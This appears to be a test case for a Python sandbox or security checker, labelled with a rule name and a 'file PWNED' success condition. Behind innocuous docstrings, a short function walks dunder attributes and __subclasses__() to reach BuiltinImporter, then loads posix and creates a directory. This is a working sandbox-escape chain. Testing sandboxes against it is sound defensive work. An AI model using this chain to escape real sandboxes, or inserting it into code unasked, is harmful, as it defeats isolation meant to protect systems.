# rule: dunder-attribute
# class: attr_subclasses
# success: file PWNED
def bases_of_own_class(times: int = 2) -> int:
    """Do one thing.

    Args:
        times: How often, between 1 and 10.

    Returns:
        What came of it.
    """
    class Step:
        """A step."""

        def top(self) -> object:
            return super().__thisclass__.__bases__[0]

    for one in Step().top().__subclasses__():
        if one.__name__ == "BuiltinImporter":
            one.load_module("posix").mkdir("PWNED")
    return times
